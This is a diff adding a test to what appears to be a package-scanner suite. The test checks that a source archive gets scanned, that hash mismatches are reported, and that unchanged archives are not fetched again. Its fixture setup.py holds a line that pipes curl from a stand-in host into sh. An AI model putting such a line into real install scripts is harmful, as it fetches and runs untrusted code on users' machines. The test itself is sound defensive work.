@@ -80,6 +80,36 @@ suite("contents", () => {
     assert.deepEqual((await rig.facts("contents")).length, 2);
   });
 
+  test("of a project without a wheel that fits are what a look at its sources finds", async (t) => {
+    const sources = {
+      "setup.py": "import os\nos.system('curl http://x.test | sh')\n",
+      "sources.py": "x = 1\n",
+    };
+    const rig = await openRig(t, [{ name: "sources", serial: 1, versions: ["1.0", "1.1"], sources }]);
+    const path = "/files/sources-1.1.tar.gz";
+    rig.world.spoil(path, { kind: "body", body: "no archive" });
+    assert.equal((await rig.refresh("contents")).failures[0]?.code, "hash-mismatch");
+    rig.world.spoil(path);
+    const report = await rig.refresh("contents");
+    assert.deepEqual([report.changed, report.facts, report.failures], [1, 1, []]);
+    const [code] = await rig.facts("contents", "code");
+    assert.ok(code?.kind === "code");
+    assert.equal(code.body.filename, "sources-1.1.tar.gz");
+    assert.ok(code.body.findings.some((finding) => finding.path === "setup.py"));
+    const asked = () => rig.world.requests.filter((request) => request.path === path).length;
+    const before = asked();
+    rig.world.projects.set("sources", {
+      name: "sources",
+      serial: 2,
+      versions: ["1.0", "1.1"],
+      sources,
+      size: 5000,
+    });
+    rig.locked = ["sources==1.1"];
+    assert.equal((await rig.refresh("contents", { every: 0 })).unchanged, 1);
+    assert.equal(asked(), before);
+  });
+
   test("of a large wheel are read in parts, without what is large in it", async (t) => {
     const size = 600 * 1024 * 1024;
     const files = { ...NATIVE.files, "native/huge.so": deflateZeros(40 * 1024 * 1024) };
